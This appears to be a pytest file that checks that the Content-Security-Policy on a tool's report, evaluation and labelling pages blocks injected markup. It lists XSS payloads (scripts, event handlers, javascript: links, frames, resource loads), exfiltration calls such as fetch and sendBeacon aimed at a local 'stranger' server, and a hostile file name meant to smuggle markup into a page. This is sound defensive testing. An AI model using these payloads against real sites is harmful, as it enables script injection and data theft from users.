"""The Content-Security-Policy of each page, put to the test: markup that escaping should have stopped does nothing."""

from __future__ import annotations

import html
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from click.testing import CliRunner
from fake_model import FakeModel
from report_pages import save

from mtdetect.cli.main import cli
from mtdetect.samples.files import write_samples
from mtdetect.types import Document, Sample

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

Served = Callable[..., tuple[str, Any]]

PLACE = "INJECTED"
"""A placeholder in the text of each page, which the attack replaces."""

# Each runs code that sets `ran`, or asks a server of a stranger for something. {} is that server's address.
ATTACKS = {
    "script": "<script>window.ran = 1</script>",
    "module": '<script type="module">window.ran = 1</script>',
    "script from a stranger": '<script src="{}a.js"></script>',
    "script in a data URL": '<script src="data:text/javascript,window.ran=1"></script>',
    "handler": '<img src="data:," onerror="window.ran = 1"><svg onload="window.ran = 1"></svg>',
    "handler of an event": '<details open ontoggle="window.ran = 1">a</details><input autofocus onfocus="ran = 1">',
    "link": '<a id="lure" href="javascript:window.ran = 1">a</a>',
    "frame": '<iframe src="{}"></iframe><iframe src="javascript:parent.ran = 1"></iframe>',
    "frame with its own text": '<iframe srcdoc="<script>parent.ran = 1</script><img src={}>"></iframe>',
    "object": '<object data="{}"></object><embed src="{}">',
    "image": '<img src="{}a.png" srcset="{}b.png 2x"><video src="{}c.mp4" poster="{}d.png" autoplay></video>',
    "style": '<style>body {{ background: url("{}a.png") }} @import "{}a.css";</style>',
    "style attribute": '<p id="lure" style="position: fixed; inset: 0; background: url({}a.png)">a</p>',
    "style sheet": '<link rel="stylesheet" href="{}a.css"><link rel="preload" as="image" href="{}b.png">',
    "base": '<base href="{}"><img src="a.png">',
    "form": '<form id="sent" action="{}"><button id="lure">a</button></form>',
    "ping": '<a id="lure" href="#" ping="{}">a</a>',
}

# What an attacker's script would do first, if one ran.
CALLS = {
    "eval": "window.eval('window.ran = 1')",
    "Function": "new Function('window.ran = 1')()",
    "a timer of text": "setTimeout('window.ran = 1', 0)",
    "a script element": "document.body.append(Object.assign(document.createElement('script'), {text: 'ran = 1'}))",
    "a request": "fetch(STRANGER).catch(() => 0)",
    "a beacon": "navigator.sendBeacon(STRANGER, 'a')",
    "a socket": "new WebSocket(STRANGER.replace('http', 'ws'))",
    "events": "new EventSource(STRANGER)",
    "a worker": "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(STRANGER) + ')'])))",
    "an image": "new Image().src = STRANGER",
}


class Asked(list[str]):
    """The paths that a server was asked for."""

    def __init__(self) -> None:
        self.any = threading.Event()

    def append(self, path: str) -> None:
        super().append(path)
        self.any.set()

    def soon(self) -> bool:
        """Whether it is asked for something, if one waits: a busy machine takes longer than a page is given."""
        return self.any.wait(10)


@pytest.fixture
def stranger() -> Iterator[tuple[str, Asked]]:
    """A server that no page may ask for anything: its address, and what it was asked for."""
    asked = Asked()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        server.shutdown()


def report(folder: Path, _: Served) -> str:
    text = f"{PLACE} in the the city."
    fields = {"file": f"{PLACE}.jsonl", "line": 3, "url": PLACE, "fields": {PLACE: PLACE}}
    return save(folder, [(Document(PLACE, text, fields), FakeModel().score(text))]).as_uri()


def evaluation(folder: Path, _: Served) -> str:
    pytest.importorskip("matplotlib", reason='the plots extra is not installed: pip install ".[plots]"')
    sound = "The council met on {} to discuss the new bridge, and most of its members were in favour of the plan."
    samples = [
        Sample(sound.format(day) + PLACE, i % 2, i % 2, f"{PLACE}{i % 7}") for i, day in enumerate("ABCDEFGH" * 5)
    ]
    write_samples(samples, folder / "a.jsonl")
    result = CliRunner().invoke(cli, ["evaluate", str(folder / "a.jsonl"), "--html", str(folder / "page.html")])
    assert result.exit_code == 0, result.output
    return (folder / "page.html").as_uri()


def label(folder: Path, served: Served) -> str:
    pytest.importorskip("flask", reason='the label extra is not installed: pip install ".[label]"')
    (folder / "a.txt").write_text("One.\n\nTwo.")
    return served("a.txt", "--in-order")[0]


PAGES = {"report": report, "evaluation": evaluation, "label": label}


@pytest.fixture(params=PAGES)
def opened(
    request: pytest.FixtureRequest, chromium: Browser, served: Served, tmp_path: Path, stranger: tuple[str, Asked]
) -> Iterator[Callable[[str], Page]]:
    """Opens a page with some markup put into it, as if it had not been escaped."""
    address = PAGES[request.param](tmp_path, served)
    context = chromium.new_context()

    def open_with(markup: str) -> Page:
        page = context.new_page()

        def changed(route: Any) -> None:
            if route.request.url != address:
                route.continue_()
            elif address.startswith("file:"):
                text = Path(address.removeprefix("file://")).read_text(encoding="utf-8")
                assert PLACE in text
                route.fulfill(body=text.replace(PLACE, markup), content_type="text/html; charset=utf-8")
            else:
                answer = route.fetch()
                assert "</main>" in answer.text()
                route.fulfill(response=answer, body=answer.text().replace("</main>", f"{markup}</main>"))

        page.route("**/*", changed)
        page.goto(address)
        return page

    yield open_with
    context.close()


LURED = """
new Promise(done => {
    const lure = document.querySelector("#lure"), place = lure && getComputedStyle(lure).position;
    if (lure) lure.click();
    setTimeout(() => done([window.ran || 0, place]), 100);
})
"""
"""Clicks what should be clicked, and waits. Then: whether code ran, and whether a style moved what was clicked."""


def test_markup_that_got_into_the_page(opened: Callable[[str], Page], stranger: tuple[str, Asked]) -> None:
    address, asked = stranger
    for name, attack in ATTACKS.items():
        page = opened(attack.format(*[address] * 4))
        ran, place = page.evaluate(LURED)
        assert (ran, place or "static", asked) == (0, "static", []), name
        page.close()


def test_what_a_script_would_do(opened: Callable[[str], Page], stranger: tuple[str, Asked]) -> None:
    address, asked = stranger
    page = opened("")
    for name, call in CALLS.items():
        # Later, since what Playwright itself evaluates is exempt from the policy.
        page.evaluate(f"() => setTimeout(() => {{ const STRANGER = {address!r}; try {{ {call} }} catch {{}} }})")
        assert (page.evaluate(LURED)[0], asked) == (0, []), name


def test_the_attacks_work_without_a_policy(chromium: Browser, stranger: tuple[str, Asked], tmp_path: Path) -> None:
    """Or the tests above would show nothing."""
    address, asked = stranger
    for name, attack in ATTACKS.items():
        asked.any.clear()
        path = tmp_path / "page.html"
        path.write_text(f"<!doctype html><title>a</title>{attack.format(*[address] * 4)}", encoding="utf-8")
        page = chromium.new_page()
        page.goto(path.as_uri())
        ran, place = page.evaluate(LURED)
        assert ran or place == "fixed" or asked.soon(), name
        page.close()


def test_hostile_names_in_the_labelling_page(chromium: Browser, served: Served, tmp_path: Path) -> None:
    hostile = "<img src=x onerror=window.ran=1><script>window.ran=1<｜script>\u202e"
    path = tmp_path / f"{hostile}.txt"
    path.write_text(f"One.\n\n{hostile} the the\n\nThree.", encoding="utf-8")
    address, _ = served(path.name, "--in-order")
    page = chromium.new_page()
    page.goto(address)
    page.locator("body[data-item]:not([aria-busy])").wait_for()
    assert page.evaluate("window.ran") is None
    assert page.locator("img, main script").count() == 0
    assert html.escape(f"{hostile}.txt", quote=False) in page.content()
    page.close()
